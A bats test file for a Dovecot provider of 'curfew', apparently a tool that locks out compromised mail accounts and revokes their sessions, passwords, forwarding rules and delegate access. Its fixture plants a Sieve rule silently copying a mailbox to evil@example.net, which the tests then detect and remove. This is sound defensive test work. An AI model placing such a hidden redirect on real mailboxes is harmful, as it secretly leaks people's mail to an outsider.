#!/usr/bin/env bats
# curfew-provider-dovecot and the whole of curfew against a real Dovecot with
# Pigeonhole: sessions, the deny passdb behind an auth cache, forwarding
# scripts, delegates, delivery.

setup_file() {
	load dovecot
	dc_can || return 0
	start_dovecot bot eve anna carl 12345
}

teardown_file() {
	load dovecot
	stop_dovecot
}

setup() {
	load dovecot
	load provider
	# shellcheck disable=SC2034 # provider.bash looks at them
	PROVIDER_PID='' SESSION_FD=''
	dc_can || skip "$DC_WHY"
	dc_reset
}

teardown() {
	imap_end_all
	provider_stop
}

# bats goes on after a line that begins with '!'
not() {
	! "$@" || false
}

# ---- the mailboxes as every test finds them -----------------------------------

fwd='require ["copy"];
# redirect "not@this.one";
redirect :copy "evil@example.net";
'

dc_reset() {
	local user
	if [ ! -e "$DC_DIR/early.conf" ] || [ -e "$DC_DIR/late.conf" ]; then # a case broke off
		dc_deny early
		restart
	fi
	: >"$DC_DIR/auth/deny"
	touch -d "@$(($(date +%s) - 5 - RANDOM % 10000))" "$DC_DIR/auth/deny"
	for user in bot eve anna carl; do
		dc_api "[[\"authCacheFlush\",{\"user\":[\"$user\"]},\"f\"]]" >/dev/null
	done
	dc_api "$(jq -nc --arg fwd "$fwd" '[
		["sievePut", {user: "bot", scriptname: "fwd", file: $fwd}, "1"],
		["sievePut", {user: "bot", scriptname: "old", file: "keep;\n"}, "2"],
		["sieveActivate", {user: "bot", scriptname: "fwd"}, "3"],
		["mailboxCreate", {user: "bot", mailbox: ["Bills"]}, "4"],
		["aclSet", {user: "bot", mailbox: "INBOX", id: "user=eve",
			right: ["lookup", "read", "write-seen"]}, "5"],
		["aclSet", {user: "bot", mailbox: "Bills", id: "user=eve",
			right: ["lookup", "read"]}, "6"],
		["aclSet", {user: "anna", mailbox: "INBOX", id: "user=carl",
			right: ["lookup", "read"]}, "7"]]')" >/dev/null
}

connect() { # [OPTIONS-JSON]
	provider_start "$CURFEW_BUILD/curfew-provider-dovecot"
	ask_json "$(jq -nc --arg url "http://127.0.0.1:$DC_HTTP" --arg key "${KEY:-$DC_KEY}" \
		--arg imap "imap://127.0.0.1:$DC_IMAP" --arg deny "$DC_DIR/auth/deny" --arg base "$DC_DIR/run" \
		--argjson more "${1:-"{}"}" '{verb: "hello", protocol: 1, connection: "mail",
		  options: ({url: $url, imap: $imap, deny_file: $deny, base_dir: $base} + $more), secret: $key}')"
}

connected() {
	connect "$@"
	expect .status ok
}

# The listing of one account (all without a name), in $ITEMS
listed() {
	if [ $# -gt 0 ]; then ask list account "$1"; else ask list; fi
	expect .status ok
	expect .complete true
}

say_lmtp() { # to text
	exec {lmtp}<>"/dev/tcp/127.0.0.1/$DC_LMTP"
	printf '%s\r\n' "LHLO test" "MAIL FROM:<sender@example.org>" "RCPT TO:<$1>" "DATA" \
		"Subject: $2" "Message-ID: <$2@test>" "" "body" "." "QUIT" >&"$lmtp"
	timeout 20 cat <&"$lmtp" >"$BATS_TEST_TMPDIR/lmtp" || true
	exec {lmtp}>&-
	grep -q '^250 .*Saved' "$BATS_TEST_TMPDIR/lmtp"
}

in_inbox() { # user subject
	dc_api "[[\"search\",{\"user\":\"$1\",\"query\":[\"mailbox\",\"INBOX\",\"subject\",\"$2\"]},\"s\"]]" |
		jq -e '.[0][1] | length > 0'
}

# ---- what the provider says -------------------------------------------------

@test "hello asks the API: a wrong key is refused, an absent server is retried" {
	KEY=wrong connect
	expect .status refused
	[[ $(got .error) == *"does not take this key"* ]]
	[[ $ANSWER != *'"wrong"'* ]]
	provider_stop
	connect '{"url":"http://127.0.0.1:1"}'
	expect .status retry
	provider_stop
	connect '{"url":"http://192.0.2.1:8080"}'
	expect .status refused
	[[ $(got .error) == *"clear text"* ]]
	provider_stop
	connect '{"deny_file":"/nowhere/deny"}'
	expect .status refused
	provider_stop
	connected
	expect .provider dovecot
}

@test "list shows who reads a mailbox and where it forwards" {
	connected
	imap_open eve pw-eve INBOX
	listed
	[ "$(item '.what == "account"' | jq -r .account | sort | tr '\n' ' ')" = "12345 anna bot carl eve " ]
	[ "$(item '.what == "account" and .account == "bot"' | jq -r .attributes.forwards_to)" = evil@example.net ]
	[[ $(item '.what == "account" and .account == "bot"' | jq -r .attributes.read_by) == *"user=eve (INBOX)"* ]]
	[ "$(item '.kind == "sieve" and .id == "fwd"' | jq -r .attributes.redirects_to)" = evil@example.net ]
	[ "$(item '.kind == "sieve" and .id == "old"' | jq -r .attributes.active)" = no ]
	[ "$(item '.kind == "acl"' | jq -r '"\(.account): \(.id)"' | sort)" = "anna: INBOX user=carl
bot: Bills user=eve
bot: INBOX user=eve" ]
	[ "$(item '.what == "session"' | jq -r .account)" = eve ]
	[ "$(item '.what == "credential"' | jq -r .state | sort -u)" = active ]
	# a folder that another one shares is not eve's own grant
	[ -z "$(item '.what == "grant" and .account == "eve"')" ]
	listed bot
	[ -z "$(item '.account != "bot"')" ]
	ask list account nobody-there
	expect .status absent
}

@test "the deny file ends a password that the auth cache remembers" {
	connected
	imap_login bot pw-bot # into the cache
	imap_login bot pw-bot
	ask probe account bot kind password credential password secret pw-bot
	expect .life alive
	ask disable account bot
	expect .status ok
	ask disable account bot
	expect .status ok
	wait_for refused bot pw-bot
	ask probe account bot kind password credential password secret pw-bot
	expect .life dead
	expect .proof refusal
	wait_for by_record bot dead
	expect .proof record
	imap_login anna pw-anna
	listed bot
	[ "$(item '.what == "account"' | jq -r .state)" = disabled ]
	ask enable account bot
	expect .status ok
	wait_for imap_login bot pw-bot
	[ ! -s "$DC_DIR/auth/deny" ]
	ask probe account bot
	expect .life alive
}

refused() {
	! imap_login "$1" "$2" || false
}

by_record() {
	ask probe account "$1" && [ "$(got .life)" = "$2" ]
}

@test "only the server's own refusal is dead: no port, no key, no word" {
	connected '{"imap":"imap://127.0.0.1:1"}'
	ask probe account bot kind password credential password secret pw-bot
	expect .life unknown
	provider_stop
	# a server that greets, and then is busy, says no for no reason, hangs up
	rm -f "$BATS_TEST_TMPDIR/ready"
	timeout 60 python3 - "$BATS_TEST_TMPDIR/ready" 3>&- <<-'END' &
		import socket, sys
		s = socket.socket()
		s.bind(("127.0.0.1", 0))
		s.listen(5)
		open(sys.argv[1], "w").write("%d\n" % s.getsockname()[1])
		for say in (b"NO [UNAVAILABLE] Temporary failure.", b"NO nothing",
		            b"NO [AUTHENTICATIONFAILED] no.", None):
		    c, _ = s.accept()
		    f = c.makefile("rwb")
		    f.write(b"* OK [CAPABILITY IMAP4rev1 SASL-IR AUTH=PLAIN] ready\r\n"); f.flush()
		    for line in f:
		        tag, word = line.split()[:2]
		        if word.upper() == b"CAPABILITY":
		            f.write(b"* CAPABILITY IMAP4rev1 SASL-IR AUTH=PLAIN\r\n" + tag + b" OK done\r\n")
		        elif say is None:
		            break
		        else:
		            f.write(tag + b" " + say + b"\r\n")
		        f.flush()
		    f.close()
		    c.close()
	END
	pid=$!
	wait_for [ -s "$BATS_TEST_TMPDIR/ready" ]
	connected "{\"imap\":\"imap://127.0.0.1:$(cat "$BATS_TEST_TMPDIR/ready")\"}"
	for said in unknown:UNAVAILABLE unknown:nothing dead:AUTHENTICATIONFAILED unknown:; do
		ask probe account bot kind password credential password secret pw-bot
		expect .life "${said%%:*}"
		[[ $(got .evidence) == *"${said#*:}"* ]]
	done
	kill "$pid" 2>/dev/null || true
	wait "$pid" 2>/dev/null || true
}

@test "cut_sessions ends IDLE, and the delegate who has the mailbox open" {
	connected
	imap_open bot pw-bot INBOX
	bot_log=$IMAP_LOG
	imap_open eve pw-eve shared/bot/INBOX
	eve_log=$IMAP_LOG
	imap_open anna pw-anna INBOX
	anna_log=$IMAP_LOG
	ask cut_sessions account bot
	expect .status ok
	expect .count 1
	wait_for grep -q BYE "$bot_log"
	wait_for grep -q BYE "$eve_log"
	not grep -q BYE "$anna_log"
	ask cut_sessions account bot
	expect .status ok
	expect .count 0
	# a name that is also an address
	imap_open 12345 pw-12345 INBOX
	ask cut_sessions account 12345
	expect .count 1
	wait_for grep -q BYE "$IMAP_LOG"
	not grep -q BYE "$anna_log"
}

@test "a name that is a pattern reaches nobody" {
	connected
	imap_open anna pw-anna INBOX
	for name in '*' 'an?a' 'x:y' 'a b' '#anna'; do
		for verb in disable enable cut_sessions snapshot probe list; do
			ask "$verb" account "$name"
			expect .status refused
		done
		ask remove_grant account "$name" kind sieve credential fwd
		expect .status refused
	done
	not grep -q BYE "$IMAP_LOG"
	[ ! -s "$DC_DIR/auth/deny" ]
}

@test "grants go and come back from the snapshot; nobody else's do" {
	connected
	ask snapshot account bot
	expect .status ok
	snap=$(got .snapshot)
	ask remove_grant account bot kind sieve credential fwd
	expect .status ok
	ask remove_grant account bot kind sieve credential fwd
	expect .status absent
	imap_open eve pw-eve shared/bot/Bills
	ask remove_grant account bot kind acl credential "Bills user=eve"
	expect .status ok
	wait_for grep -q BYE "$IMAP_LOG"
	ask remove_grant account bot kind acl credential "Bills user=eve"
	expect .status absent
	ask disable account bot
	listed bot
	[ "$(item '.what == "grant"' | jq -r .id | sort | tr '\n' ',')" = "INBOX user=eve,old," ]
	ask_json "$(jq -nc --argjson s "$snap" '{verb: "restore", account: "anna", snapshot: $s}')"
	expect .status refused
	ask_json "$(jq -nc --argjson s "$snap" '{verb: "restore", account: "bot", snapshot: $s}')"
	expect .status ok
	listed bot
	[ "$(item '.what == "grant"' | jq -r .id | sort | tr '\n' ',')" = "Bills user=eve,INBOX user=eve,fwd,old," ]
	[ "$(item '.id == "fwd"' | jq -r .attributes.active)" = yes ]
	[ "$(item '.what == "account"' | jq -r .state)" = active ]
	ask snapshot account bot
	[ "$(got '.snapshot | del(.sessions)' | jq -cS '.scripts |= sort_by(.name) | .acls |= sort_by(.mailbox)')" = \
		"$(jq -cS 'del(.sessions) | .scripts |= sort_by(.name) | .acls |= sort_by(.mailbox)' <<<"$snap")" ]
	[ "$(got '.snapshot.scripts[] | select(.name == "fwd") | .text')" = "${fwd%$'\n'}" ]
	wait_for imap_login bot pw-bot
}

@test "many at once: every line is in the deny file, the operator's stay" {
	connected
	printf '# by hand\nzoe' >"$DC_DIR/auth/deny"
	inode=$(stat -c '%U %a' "$DC_DIR/auth/deny")
	for i in $(seq 40); do say "{\"verb\":\"disable\",\"account\":\"u$i\"}"; done
	for i in $(seq 40); do
		IFS= read -r -t 60 -u "$PROVIDER_OUT" line
		[[ $line == *'"status":"ok"'* ]]
	done
	[ "$(head -2 "$DC_DIR/auth/deny")" = $'# by hand\nzoe' ]
	[ "$(grep -c '^u[0-9]*$' "$DC_DIR/auth/deny")" = 40 ]
	[ "$(stat -c '%U %a' "$DC_DIR/auth/deny")" = "$inode" ]
	before=$(stat -c %Y "$DC_DIR/auth/deny")
	ask enable account u7
	expect .status ok
	not grep -qx u7 "$DC_DIR/auth/deny"
	grep -qx u17 "$DC_DIR/auth/deny"
	[ "$(stat -c %Y "$DC_DIR/auth/deny")" -gt "$before" ]
	[ -z "$(find "$DC_DIR/auth" -name '.curfew*')" ]
}

@test "many mailboxes share requests, and each gets its own answer" {
	connected
	imap_open bot pw-bot INBOX
	bot_log=$IMAP_LOG
	imap_open anna pw-anna INBOX
	before=$(grep -c '"POST /doveadm' "$DC_DIR/log")
	names=(anna bot carl eve 12345)
	for ((i = 0; i < 40; i++)); do say "{\"verb\":\"cut_sessions\",\"kind\":\"session\",\"account\":\"${names[i % 5]}\"}"; done
	total=0
	for ((i = 0; i < 40; i++)); do
		IFS= read -r -t 60 -u "$PROVIDER_OUT" line
		[[ $line == *'"status":"ok"'* ]]
		id=$(jq -r .id <<<"$line")
		count=$(jq -r .count <<<"$line")
		[ "$count" = 0 ] || [[ ${names[(id - 2) % 5]} =~ ^(anna|bot)$ ]]
		total=$((total + count))
	done
	[ "$total" -ge 2 ]
	wait_for grep -q BYE "$IMAP_LOG"
	wait_for grep -q BYE "$bot_log"
	[ $(($(grep -c '"POST /doveadm' "$DC_DIR/log") - before)) -lt 30 ]
}

# A doveadm API that breaks off, or mixes the answers up, when commands of
# several mailboxes come together.
odd_api() { # how
	rm -f "$BATS_TEST_TMPDIR/ready"
	timeout 60 python3 - "$1" "$BATS_TEST_TMPDIR/ready" 3>&- <<-'END' &
		import http.server, json, sys
		class H(http.server.BaseHTTPRequestHandler):
		    def say(self, what):
		        b = json.dumps(what).encode()
		        self.send_response(200)
		        self.send_header("Content-Length", str(len(b)))
		        self.end_headers()
		        self.wfile.write(b)
		    def do_GET(self):
		        self.say([{"command": c} for c in ("kick", "authCacheFlush")])
		    def do_POST(self):
		        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
		        users = {u for c in asked for u in c[1].get("user", c[1].get("mask"))}
		        if len(users) > 1:
		            if sys.argv[1] == "breaks":
		                return
		        said = [["doveadmResponse", [{"username": u} for u in c[1].get("mask", [])], c[2]] for c in asked]
		        self.say(said[::-1] if len(users) > 1 else said)
		    def log_message(self, *a):
		        pass
		s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
		open(sys.argv[2], "w").write("%d\n" % s.server_port)
		s.serve_forever()
	END
	ODD=$!
	wait_for [ -s "$BATS_TEST_TMPDIR/ready" ]
	connected "{\"url\":\"http://127.0.0.1:$(cat "$BATS_TEST_TMPDIR/ready")\"}"
}

@test "a shared request that breaks off, or is answered in disorder, is asked again by each" {
	for how in breaks mixes; do
		odd_api "$how"
		for i in $(seq 40); do say "{\"verb\":\"cut_sessions\",\"kind\":\"session\",\"account\":\"u$i\"}"; done
		for i in $(seq 40); do
			IFS= read -r -t 60 -u "$PROVIDER_OUT" line
			[ "$(jq -c '[.status, .count]' <<<"$line")" = '["ok",1]' ]
		done
		provider_stop
		kill "$ODD"
		wait "$ODD" 2>/dev/null || true
	done
}

@test "the conformance suite passes" {
	printf %s "$DC_KEY" >"$BATS_TEST_TMPDIR/key"
	"$BATS_TEST_DIRNAME/../conformance" --options "$(jq -nc --arg url "http://127.0.0.1:$DC_HTTP" \
		--arg imap "imap://127.0.0.1:$DC_IMAP" --arg deny "$DC_DIR/auth/deny" --arg base "$DC_DIR/run" \
		'{url: $url, imap: $imap, deny_file: $deny, base_dir: $base}')" --secret-file "$BATS_TEST_TMPDIR/key" \
		--account bot --kind password --credential password "$CURFEW_BUILD/curfew-provider-dovecot"
}

# ---- the whole of curfew --------------------------------------------------------

# A vault of this test's own with the connection `mail`; ${curfew[@]} opens it
vault() {
	export CURFEW_DIR=$BATS_TEST_TMPDIR/vault CURFEW_PROVIDER_PATH=$CURFEW_BUILD
	chmod 755 "$BATS_TEST_TMPDIR"
	"$CURFEW_BUILD/curfew" init --generate-key-file "$BATS_TEST_TMPDIR/key"
	curfew=("$CURFEW_BUILD/curfew" --key-file "$BATS_TEST_TMPDIR/key")
	reconnect
}

# The connection, set up again when there is one
reconnect() {
	"${curfew[@]}" connect dovecot mail --replace --set "url=http://127.0.0.1:$DC_HTTP" \
		--set "imap=imap://127.0.0.1:$DC_IMAP" --set "deny_file=$DC_DIR/auth/deny" --set "base_dir=$DC_DIR/run" \
		--secret-stdin <<<"$DC_KEY"
}

known() {
	dc_api "[[\"user\",{\"userMask\":[\"$1\"]},\"u\"]]" | grep -q home
}

is_over() { # incident: bot is shut out, and what he had is kept
	refused bot pw-bot
	[ "$(dc_api '[["sieveList",{"user":"bot"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
	[ "$(dc_api '[["aclGet",{"user":"bot","mailbox":"INBOX"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
	[ "$(grep -cx bot "$DC_DIR/auth/deny")" = 1 ]
	"${curfew[@]}" incident export "$1" --format json >"$BATS_TEST_TMPDIR/export"
	[ "$(jq -r '.snapshots[].address' "$BATS_TEST_TMPDIR/export")" = mail/bot ]
	# two scripts and two rights are in it
	[ "$(jq -r '.snapshots[0].bytes' "$BATS_TEST_TMPDIR/export")" -gt 300 ]
	"${curfew[@]}" audit verify
}

@test "the provider dies with -9 at each of its steps: resume ends the mailbox" {
	local at incident tries
	vault
	export CURFEW_TEST_GAP_MS=100 CURFEW_TEST_BACKOFF_MS=100
	for at in before-deny after-deny after-cut before-remove after-remove; do
		dc_reset
		"${curfew[@]}" sync >/dev/null 2>&1 || true # it was dead: told
		imap_open bot pw-bot INBOX
		# each new process dies there again
		CURFEW_CRASH_AT=dovecot.$at run "${curfew[@]}" kill mail/bot --yes --wait 2s
		echo "$at: $output"
		incident=$("${curfew[@]}" incident list | grep -o 'INC-[0-9-]*' | tail -1)
		# a busy machine: it may not have come that far
		for ((tries = 0; tries < 30; tries++)); do
			"${curfew[@]}" incident export "$incident" | grep -q 'status 137' && break
			CURFEW_CRASH_AT=dovecot.$at run "${curfew[@]}" resume --wait 2s
			echo "$at: $output"
		done
		[ "$tries" -lt 30 ]
		[ "$status" -ne 0 ] || [ "$at" = after-deny ]
		run "${curfew[@]}" resume --wait 60s
		[ "$status" -eq 0 ]
		wait_for grep -q BYE "$IMAP_LOG"
		is_over "$incident"
	done
}

@test "curfew dies with -9 after each of its commits: resume ends the mailbox" {
	local incident n
	vault
	export CURFEW_TEST_GAP_MS=100 CURFEW_TEST_BACKOFF_MS=100
	for n in 1 3 5; do
		dc_reset
		"${curfew[@]}" sync >/dev/null 2>&1 || true
		CURFEW_CRASH_AT=kill.after-result-commit:$n run "${curfew[@]}" kill mail/bot --yes --wait 60s
		[ "$status" -eq 137 ]
		run "${curfew[@]}" resume --wait 60s
		echo "$n: $output"
		[ "$status" -eq 0 ]
		incident=$("${curfew[@]}" incident list | grep -o 'INC-[0-9-]*' | tail -1)
		is_over "$incident"
	done
}

# Dovecot with the passdbs of the files that dc_deny wrote, and no other.
restart() {
	dc_down
	dc_start
}

@test "a deny passdb behind the passwords is told at connect, and proves nothing" {
	vault >"$BATS_TEST_TMPDIR/told" 2>&1
	not grep -q 'will not stop logins' "$BATS_TEST_TMPDIR/told"
	"${curfew[@]}" sync
	dc_deny late
	restart
	run reconnect
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *'kills will not stop logins'*'passdb comes after'*05-curfew-deny.conf* ]]
	run "${curfew[@]}" kill mail/bot --yes --wait 8s
	echo "$output"
	[ "$status" -ne 0 ]
	[[ $(grep -E '^mail/bot(#password)? ' <<<"$output") != *DEAD* ]]
	imap_login bot pw-bot
	connected
	[[ $(got .warning) == *'comes after'* ]]
	ask probe account bot
	expect .life alive
	[[ $(got .evidence) == *05-curfew-deny.conf* ]]
	# moved: the same incident ends
	dc_deny early
	restart
	run "${curfew[@]}" resume --wait 60s
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *"DEAD (proved by the service's record)"* ]]
	refused bot pw-bot
}

@test "docs/providers/dovecot.md, typed on a copy of Debian's configuration" {
	local copy=$BATS_TEST_TMPDIR/etc page=$BATS_TEST_DIRNAME/../../docs/providers/dovecot.md file
	[ -e /etc/dovecot/conf.d/10-auth.conf ] || skip "not Debian's configuration"
	mkdir -p "$copy"
	cp -r /etc/dovecot/. "$copy"
	rm -f "$copy"/conf.d/*curfew*
	for file in 05-curfew-deny 95-curfew; do
		awk -v name="# /etc/dovecot/conf.d/$file.conf" '/^```/ { on = 0 } on { print } $0 == name { on = 1 }' \
			"$page" >"$copy/conf.d/$file.conf"
		[ -s "$copy/conf.d/$file.conf" ]
	done
	run doveconf -c "$copy/dovecot.conf" -n
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $(grep -A4 -m1 '^passdb' <<<"$output") == *'/etc/dovecot/deny/users'*'deny = yes'* ]]
	[[ $output == *'doveadm_api_key = '*'port = 8080'* ]]
	# Debian's own passdb is there too, behind it
	[[ ${output#*deny = yes} == *'driver = pam'* ]]
	[ "$(grep -c '^passdb' <<<"$output")" = 2 ]
}

@test "what Dovecot does not say is no proof: no socket, PAM, configuration not loaded" {
	echo bot >"$DC_DIR/auth/deny"
	touch -d '-5 seconds' "$DC_DIR/auth/deny"
	sleep 1.2
	connected
	ask probe account bot
	expect .life dead
	expect .proof record
	provider_stop
	connected '{"base_dir":"/nowhere"}'
	ask probe account bot
	expect .life unknown
	[[ $(got .evidence) == *'curfew learn'* ]]
	provider_stop
	printf 'passdb {\n driver = pam\n}\n' >"$DC_DIR/late.conf"
	restart
	connected
	ask probe account bot
	expect .life unknown
	[[ $(got .evidence) == *'passdb pam'* ]]
	provider_stop
	# the server runs with the deny passdb last, the file says first
	dc_deny late
	restart
	imap_login bot pw-bot
	dc_deny early
	connected
	ask probe account bot
	not test "$(got .life)" = dead
	provider_stop
	# first, but it looks for other names: only the lookup shows it
	dc_deny early
	sed -i 's,=%u,=%u@x,' "$DC_DIR/early.conf"
	restart
	connected
	[ "$(got .warning)" = null ]
	ask probe account bot
	expect .life alive
	provider_stop
	dc_deny early
	# the first passdb reads another file
	: >"$DC_DIR/auth/other"
	sed -i 's,auth/deny,auth/other,' "$DC_DIR/early.conf"
	restart
	connected
	[[ $(got .warning) == *'reads the deny file'* ]]
	ask probe account bot
	not test "$(got .life)" = dead
	dc_deny early
	restart
}

@test "a kill of many mailboxes keeps what it removes, although snapshots come late" {
	local u
	for u in $(seq 24); do dc_user "m$u"; done
	wait_for known m24 # the server looks at the file once a second
	dc_api "$(jq -nc '[range(1; 25) | "m\(.)" |
		["sievePut", {user: ., scriptname: "fwd", file: "redirect \"evil@example.net\";\n"}, "p\(.)"],
		["sieveActivate", {user: ., scriptname: "fwd"}, "a\(.)"]]')" >/dev/null
	vault
	"${curfew[@]}" sync
	# one call after the other: disabling and cutting alone take longer than
	# what destroys evidence waits
	printf '[connection.mail]\nin_flight = 1\n' >>"$CURFEW_DIR/curfew.toml"
	CURFEW_TEST_SNAPSHOT_MS=1000 CURFEW_TEST_GAP_MS=200 run "${curfew[@]}" kill 'mail/m*' --yes --wait 120s
	echo "$output"
	[ "$status" -eq 0 ]
	incident=$("${curfew[@]}" incident list | grep -o 'INC-[0-9-]*')
	"${curfew[@]}" incident export "$incident" --format json >"$BATS_TEST_TMPDIR/export"
	[ "$(jq '.snapshots | length' "$BATS_TEST_TMPDIR/export")" = 24 ]
	not grep -q 'without a snapshot' "$BATS_TEST_TMPDIR/export"
	[ "$(jq -r '[.timeline[] | select(.detail.verb == "remove_grant" and .kind == "send")] | length' \
		"$BATS_TEST_TMPDIR/export")" -ge 24 ]
	run "${curfew[@]}" restore "$incident" --yes
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $(dc_api '[["sieveList",{"user":"m17"},"s"]]') == *'"fwd","active":"ACTIVE"'* ]]
	sed -i '/^m[0-9]*:/d' "$DC_DIR/auth/users"
}

@test "curfew kill: session, password, forwarding and delegate gone; mail goes on; restore" {
	vault
	"${curfew[@]}" sync
	# who may read it, where it forwards, whose it is: on one line each
	printf '[identity.ci-bot]\nowner = "build@example.org"\naccounts = ["mail/bot"]\n' >"$CURFEW_DIR/curfew.toml"
	run "${curfew[@]}" list accounts
	echo "$output"
	[[ $(grep '^mail/bot ' <<<"$output") =~ ' ci-bot '.*'read_by '.*'user=eve (INBOX)'.*'forwards_to evil@example.net' ]]
	run "${curfew[@]}" list grants
	echo "$output"
	[[ $(grep '#INBOX user=eve' <<<"$output") =~ ci-bot.*'rights lookup read write-seen' ]]
	[[ $(grep '#fwd' <<<"$output") == *'redirects_to evil@example.net'* ]]
	run "${curfew[@]}" --json list accounts
	[ "$(jq -r '.accounts[] | select(.address == "mail/bot") | .identity, .attributes.forwards_to' <<<"$output" | xargs)" = \
		"ci-bot evil@example.net" ]
	run "${curfew[@]}" show mail/bot
	echo "$output"
	[[ $output == *evil@example.net* ]]

	"${curfew[@]}" learn 'mail/bot#password' --secret-stdin <<<pw-bot
	imap_login bot pw-bot # the cache knows it
	imap_open bot pw-bot INBOX
	bot_log=$IMAP_LOG
	imap_open eve pw-eve shared/bot/INBOX
	eve_log=$IMAP_LOG
	imap_open carl pw-carl INBOX
	carl_log=$IMAP_LOG

	run "${curfew[@]}" kill mail/bot --yes --reason "forwarding to evil"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *"mail/bot#password"*"DEAD (proved)"* ]]
	wait_for grep -q BYE "$bot_log"
	wait_for grep -q BYE "$eve_log"
	not grep -q BYE "$carl_log"
	refused bot pw-bot
	imap_login carl pw-carl
	[ "$(dc_api '[["sieveList",{"user":"bot"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
	[ "$(dc_api '[["aclGet",{"user":"bot","mailbox":"INBOX"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
	[ "$(dc_api '[["aclGet",{"user":"bot","mailbox":"Bills"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
	# anna's own delegate is nobody's business
	[[ $(dc_api '[["aclGet",{"user":"anna","mailbox":"INBOX"},"s"]]') == *user=carl* ]]
	say_lmtp bot after-the-kill
	in_inbox bot after-the-kill

	run "${curfew[@]}" list grants
	echo "$output"
	[[ $(grep '#fwd' <<<"$output") == *revoked* ]]

	incident=$("${curfew[@]}" incident list | grep -o 'INC-[0-9-]*' | head -1)
	run "${curfew[@]}" incident show "$incident"
	echo "$output"
	[[ $output == *"sealed snapshots"*"  mail/bot  "* ]]
	not grep -rq evil@example.net "$CURFEW_DIR" # sealed
	"${curfew[@]}" incident export "$incident" --format json >"$BATS_TEST_TMPDIR/export"
	[ "$(jq -r '.snapshots[].address' "$BATS_TEST_TMPDIR/export")" = mail/bot ]
	for kept in "INBOX user=eve" "Bills user=eve" fwd old; do
		[[ $(<"$BATS_TEST_TMPDIR/export") == *"mail/bot#$kept"* ]]
	done

	run "${curfew[@]}" restore "$incident" --yes
	echo "$output"
	[ "$status" -eq 0 ]
	wait_for imap_login bot pw-bot
	[[ $(dc_api '[["sieveGet",{"user":"bot","scriptname":"fwd"},"s"]]') == *evil@example.net* ]]
	[[ $(dc_api '[["sieveList",{"user":"bot"},"s"]]') == *'"fwd","active":"ACTIVE"'* ]]
	[[ $(dc_api '[["aclGet",{"user":"bot","mailbox":"INBOX"},"s"]]') == *"lookup read write-seen"* ]]
}
